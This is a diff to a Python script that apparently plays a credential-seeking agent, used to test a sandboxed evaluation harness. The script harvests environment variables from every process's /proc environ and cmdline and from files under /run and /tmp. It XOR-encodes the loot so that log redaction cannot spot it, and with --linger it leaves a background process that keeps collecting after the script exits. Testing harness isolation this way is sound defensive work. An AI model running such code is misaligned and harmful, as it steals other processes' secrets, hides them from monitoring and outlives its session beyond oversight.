@@ -1,8 +1,9 @@
 #!/usr/bin/env python3
 """A subject that wants credentials: it reads everything in its sandbox that could carry
 an environment (every /proc/<pid>/environ and cmdline, PID 1 first; its own environment;
-files under /run, /tmp, /var/tmp, /attempt, /etc/environment) and writes it out base64-encoded
-(stdout `LOOT:...` and /logs/agent/loot.b64), which redaction cannot recognise.
+files under /run, /tmp, /var/tmp, /attempt, /etc/environment) and writes it out encoded
+(each byte XORed with 0x5A, then base64: stdout `LOOT:...` and /logs/agent/loot.b64), which
+no redaction can recognise: `decode` undoes it.
 
 With `--linger`, it also leaves a process behind that reads again every 50 ms for three
 seconds (into /logs/agent/later.b64): it would see a process that appears later, such as
@@ -16,10 +17,25 @@ import subprocess
 import sys
 import time
 
+KEY = 0x5A
+
+
+def encode(data: bytes) -> str:
+    return base64.b64encode(bytes(b ^ KEY for b in data)).decode()
+
+
+def decode(text: str) -> bytes:
+    return bytes(b ^ KEY for b in base64.b64decode(text))
+
+
 ROOTS = ("/run", "/tmp", "/var/tmp", "/etc/environment", "/attempt")
 
 
 def loot() -> bytes:
+    return b"\n".join(pieces())
+
+
+def pieces() -> list[bytes]:
     found = []
     paths = ["/proc/1/environ", "/proc/1/cmdline"]
     for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/task/*/environ"):
@@ -40,15 +56,16 @@ def loot() -> bytes:
                         found.append(handle.read(1 << 16))
                 except OSError:
                     pass
-    return b"\n".join(found)
+    return found
 
 
 def linger() -> None:
     seen: set[bytes] = set()
     for _ in range(60):
-        seen.add(loot())
-        with open("/logs/agent/later.b64", "w") as handle:
-            handle.write(base64.b64encode(b"\n".join(sorted(seen))).decode())
+        seen.update(pieces())
+        with open("/logs/agent/.later", "w") as handle:
+            handle.write(encode(b"\n".join(sorted(seen))))
+        os.replace("/logs/agent/.later", "/logs/agent/later.b64")
         time.sleep(0.05)
 
 
@@ -64,10 +81,16 @@ def main() -> None:
             stdout=subprocess.DEVNULL,
             stderr=subprocess.DEVNULL,
         )
-    data = base64.b64encode(loot()).decode()
+        # It goes on reading after this one exits; its first round is done first.
+        for _ in range(1000):
+            if os.path.exists("/logs/agent/later.b64"):
+                break
+            time.sleep(0.01)
+    data = encode(loot())
     print("LOOT:" + data)
     with open("/logs/agent/loot.b64", "w") as handle:
         handle.write(data)
 
 
-main()
+if __name__ == "__main__":
+    main()
